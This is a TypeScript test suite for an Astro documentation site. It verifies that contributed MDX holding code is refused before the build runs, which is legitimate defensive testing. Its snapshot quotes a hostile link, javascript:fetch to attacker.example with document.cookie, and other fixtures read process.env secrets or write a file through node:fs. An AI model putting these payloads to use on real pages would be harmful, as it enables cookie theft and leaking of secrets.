/**
 * Contributed MDX cannot run code. Each file of tests/fixtures/hostile-mdx/
 * is a chapter with one hostile line; put into a copy of the real content,
 * it must be refused with exactly one message that gives the file, the line,
 * the column and what to do: by `npm run check` and the build (the gate in
 * loadContent, on Astro's own parse) and by `npm run lint:content`
 * (remark-mdx). A real build then shows that the refusal comes before Astro
 * compiles anything.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseFrontmatter } from '@astrojs/internal-helpers/frontmatter';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadContent } from '../../../src/content/load-publication-fs.ts';
import { astroMdxContent } from '../../../src/markdown/mdx-gate.ts';
import { formatDiagnostic } from '../../../src/diagnostics/diagnostic.ts';
import { publicationIntegration } from '../../../src/integrations/publication.ts';
import { contentFileInfo } from '../../../src/lint/content-file.ts';
import { lintContext } from '../../../src/lint/lint-context.ts';
import { lintMdx, lintProcessor } from '../../../src/lint/lint-mdx.ts';

const project = path.resolve(import.meta.dirname, '../../..');
const fixtures = path.resolve(import.meta.dirname, '../../fixtures/hostile-mdx');
const names = readdirSync(fixtures)
	.filter((name) => name.endsWith('.mdx'))
	.map((name) => path.basename(name, '.mdx'))
	.sort();
let work: string;

/** Runs `test` with one hostile file added to the copy's English chapters. */
function withFixture<T>(name: string, test: (file: string) => T): T {
	const file = `content/chapters/en/${name}.mdx`;
	cpSync(path.join(fixtures, `${name}.mdx`), path.join(work, file));
	try {
		return test(file);
	} finally {
		rmSync(path.join(work, file));
	}
}

beforeAll(() => {
	work = mkdtempSync(path.join(os.tmpdir(), 'cet-hostile-'));
	for (const entry of ['content', 'locales', 'src', 'public', 'scripts', 'astro.config.mjs', 'package.json', 'tsconfig.json'])
		cpSync(path.join(project, entry), path.join(work, entry), { recursive: true });
	symlinkSync(path.join(project, 'node_modules'), path.join(work, 'node_modules'));
});

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('hostile MDX', { timeout: 120_000 }, () => {
	it('has one fixture per case of the issue', () => {
		expect(names).toEqual(['export-const', 'expression-process-env', 'import-node-fs', 'javascript-link', 'script-element', 'unknown-component']);
	});

	it('is refused by the content checks with one message each: file, line, column and what to do', () => {
		const found = Object.fromEntries(names.map((name) => [name, withFixture(name, () => loadContent(work).diagnostics.map(formatDiagnostic))]));
		expect(found).toMatchInlineSnapshot(`
			{
			  "export-const": [
			    "content/chapters/en/export-const.mdx:29:1 error MdxExport: The file exports code (export const leak = Object.keys(process.env)); an MDX export runs at build time, so content may not have one.
			    Remove the line. Data about a chapter belongs in its frontmatter, which is validated and never run.",
			  ],
			  "expression-process-env": [
			    "content/chapters/en/expression-process-env.mdx:33:30 error MdxExpression: The expression {process.env.CET_SIGNING_KEY} would run as code at build time; content may not contain one.
			    Write the text itself. Braces are kept for a heading anchor such as {#why}; write a literal brace as \\{.",
			  ],
			  "import-node-fs": [
			    "content/chapters/en/import-node-fs.mdx:29:1 error MdxImport: The file imports code (import fs from 'node:fs'); an MDX import runs at build time, so content may not have one.
			    Remove the line. Content may use only the components in src/markdown/mdx-allowlist.ts, which the site supplies without an import.",
			  ],
			  "javascript-link": [
			    "content/chapters/en/javascript-link.mdx:41:6 error UnsafeUrl: The address javascript:fetch('https://attacker.example/'+document.cookie) uses the javascript: scheme, which a browser may run or hand to another program.
			    Link with https: or mailto:, or to a page of the site by its file name, for example glossary.html#chain-of-custody.",
			  ],
			  "script-element": [
			    "content/chapters/en/script-element.mdx:37:1 error RawHtmlElement: The <script> element is not allowed in content: it would run code in the reader's browser.
			    Remove it. Content is data: write Markdown, and use only the components in src/markdown/mdx-allowlist.ts.",
			  ],
			  "unknown-component": [
			    "content/chapters/en/unknown-component.mdx:41:1 error DisallowedComponent: <Counter> is not a component content may use; the allowlist has <Term>.
			    Write Markdown instead: **bold**, *emphasis*, lists and [links](glossary.html#chain-of-custody). To propose a new component, open an issue (see CONTRIBUTING.md).",
			  ],
			}
		`);
	});

	it('is refused by lint:content (remark-mdx) at the same line, with the same message', () => {
		for (const name of names) {
			const { gate, lint } = withFixture(name, (file) => {
				const loaded = loadContent(work);
				const processor = lintProcessor(lintContext(loaded.publication));
				return { gate: loaded.diagnostics, lint: lintMdx(processor, file, readFileSync(path.join(work, file), 'utf8'), contentFileInfo(file, 'en')) };
			});
			expect(
				lint.map((diagnostic) => [diagnostic.code, diagnostic.line, diagnostic.message]),
				name,
			).toEqual(gate.map((diagnostic) => [diagnostic.code, diagnostic.line, diagnostic.message]));
		}
	});

	it('stops the build integration at astro:config:setup, before Astro loads any content', () => {
		const setup = publicationIntegration().hooks['astro:config:setup']!;
		for (const name of names) {
			withFixture(name, (file) => {
				const run = () => setup({ config: { root: pathToFileURL(`${work}/`) }, logger: { warn() {} } } as unknown as Parameters<typeof setup>[0]);
				expect(run, name).toThrow(`${file}:`);
			});
		}
	});

	it('makes npm run check and npm run lint:content exit non-zero and print the message', () => {
		withFixture('import-node-fs', () => {
			for (const script of ['scripts/check.ts', 'scripts/lint-content.ts']) {
				const result = spawnSync(process.execPath, [script, '--root', work], { encoding: 'utf8' });
				expect(result.status, script).toBe(1);
				expect(result.stderr, script).toContain("content/chapters/en/import-node-fs.mdx:29:1 error MdxImport: The file imports code (import fs from 'node:fs');");
				expect(result.stderr, script).toContain('    Remove the line.');
			}
		});
	});

	it('fails a real build before any MDX runs: code that would write a file never does', () => {
		const file = 'content/chapters/en/writes-a-file.mdx';
		const marker = path.join(work, 'PWNED');
		writeFileSync(
			path.join(work, file),
			`---\nslug: writes-a-file\ncode: WRF\norder: 120\ntitle: Writes a file\nsummary: Hostile.\npillar: govern\nstatus: draft\nreviewed: 2026-11-02\ncontributors:\n  - name: Fixture author\npractices:\n  - id: WRF-1\n    title: Writes a file\n    statement: Refuse this file.\n    rationale: Content is data.\n    implementation: [Refuse it.]\n    evidence: [The error.]\n    tier: silver\n    kind: credit\n    points: 1\n    observable: false\n---\n\nimport fs from 'node:fs'\n\nexport const pwned = fs.writeFileSync(${JSON.stringify(marker)}, 'ran')\n\n## Why this matters {#why}\n\nText.\n\n## Threats addressed {#threats}\n\n- A threat.\n\n## Adapting this chapter {#adapting}\n\nText.\n`,
		);
		try {
			const built = spawnSync(process.execPath, ['scripts/build.ts'], { cwd: work, encoding: 'utf8' });
			expect(built.status).not.toBe(0);
			expect(`${built.stdout}${built.stderr}`).toContain(`${file}:25:1 error MdxImport`);
			expect(`${built.stdout}${built.stderr}`).toContain(`${file}:27:1 error MdxExport`);
			expect(existsSync(marker)).toBe(false);
			expect(existsSync(path.join(work, 'dist'))).toBe(false);
		} finally {
			rmSync(path.join(work, file));
		}
	});
});

describe("the gate reads a file as Astro's MDX integration does", () => {
	it('reports MDX it cannot parse once, at its line and column, without repeating it through the translations and editions', () => {
		const file = 'content/chapters/en/critical-incident-protocol.mdx';
		const original = path.join(project, file);
		cpSync(path.join(work, file), `${path.join(work, file)}.orig`);
		try {
			writeFileSync(path.join(work, file), readFileSync(original, 'utf8').replace('## Threats addressed {#threats}', '## Threats addressed {#threats}\n\nA <b>tag left open.'));
			const { diagnostics } = loadContent(work);
			expect(diagnostics.map(formatDiagnostic)).toEqual([
				`${file}:338:3 error MdxSyntax: The MDX could not be read: Expected a closing tag for \`<b>\` (338:3) before the end of \`paragraph\` (mdx-jsx:unexpected-character)\n    In MDX, "<" starts a tag and "{" an expression: write a literal one as \\< or \\{, and close every tag you open.`,
			]);
		} finally {
			cpSync(`${path.join(work, file)}.orig`, path.join(work, file));
			rmSync(`${path.join(work, file)}.orig`);
		}
	});

	it('splits the frontmatter exactly like @astrojs/internal-helpers, keeping lines and columns', () => {
		const samples = [
			'---\ntitle: A\n---\n\nBody {x}\n',
			'\uFEFF---\ntitle: A\n---\nBody\n',
			'---\ntitle: A\n---x\nimport fs from "node:fs"\n---\n',
			'\n\n---\ntitle: A\n---\n\nBody\n',
			'+++\ntitle = "A"\n+++\n\nBody\n',
			'No frontmatter.\n---\n',
		];
		for (const sample of samples) {
			let astro: string;
			try {
				astro = parseFrontmatter(sample, { frontmatter: 'empty-with-spaces' }).content;
			} catch {
				continue; // YAML Astro itself cannot read: the build fails there anyway.
			}
			expect(astroMdxContent(sample), JSON.stringify(sample)).toBe(astro);
			expect(astroMdxContent(sample).split('\n').length).toBe(sample.split('\n').length);
		}
	});
});
